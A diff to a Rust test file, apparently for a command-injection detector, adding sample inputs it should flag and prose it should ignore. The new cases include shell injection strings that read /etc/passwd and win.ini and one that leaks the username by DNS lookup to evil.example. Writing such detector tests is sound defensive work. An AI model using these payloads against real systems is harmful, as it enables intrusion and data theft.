@@ -7,6 +7,10 @@ fn finds_commands_where_a_shell_looks_for_them() {
         DetectCommand,
         &[
             ";id",
+            "127.0.0.1\nid\n",
+            ";a=ca;b=t;$a$b /etc/passwd",
+            "127.0.0.1; nslookup `whoami`.evil.example",
+            "x&%COMSPEC% /c type c:\\windows\\win.ini",
             "; id",
             "|id",
             "| whoami",
@@ -179,6 +183,7 @@ fn leaves_prose_lists_and_parameters_alone() {
         DetectCommand,
         &[
             "use `ls -la` to list files",
+            "I tried `find . -name x | xargs wc -l` here",
             "#!/bin/bash\nset -e\ncd /tmp\nls -la\ncurl -s https://example.com/install.sh | bash\n",
             "To install, run:\n\n    npm install\n    cat /etc/hosts\n",
             "ls -la",
